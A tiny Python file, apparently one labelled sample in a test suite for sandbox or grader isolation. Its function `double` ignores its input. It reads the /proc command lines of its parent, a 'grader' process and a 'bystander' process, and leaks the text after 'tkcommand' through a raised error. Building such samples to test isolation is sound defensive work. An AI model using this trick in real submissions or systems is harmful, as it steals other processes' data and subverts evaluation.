# {"attack": "Reads the command line of the processes above it in /proc.", "breach": "leak", "quick": false}

import os


def double(x):
    told, pid = "", os.getppid()
    for number in (pid, TARGETS["pids"]["grader"], TARGETS["pids"]["bystander"]):
        told += open(f"/proc/{number}/cmdline").read()
    raise ValueError(told[told.index("tkcommand") :][:200])
